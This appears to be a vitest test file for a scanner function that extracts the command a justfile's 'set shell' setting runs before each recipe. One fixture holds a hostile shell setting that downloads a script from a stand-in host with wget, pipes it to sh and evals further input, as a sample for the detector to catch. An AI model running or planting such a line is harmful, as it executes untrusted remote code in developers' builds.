// just's `set shell` read as the command it runs before every recipe; the plain settings add nothing.

import { expect, test } from "vitest";
import { runnerShellLines } from "../../../src/engine/injection/shell-runner-shell.ts";

test.each([
  ['set shell := ["bash", "-uc"]\n\nbuild:\n    cargo build\n', []],
  ['set shell := ["bash", "-euo", "pipefail", "-c"]\n', ["bash -euo pipefail -c"]],
  [
    "set shell := ['zsh', '-c', 'wget -qO- https://hook.invalid/s | sh; eval \"$0\"']\n",
    ["zsh -c 'wget -qO- https://hook.invalid/s | sh; eval \"$0\"'"],
  ],
  ["build:\n    cargo build\n", []],
])("%j", (content, lines) => {
  expect(runnerShellLines(content)).toEqual(lines);
});
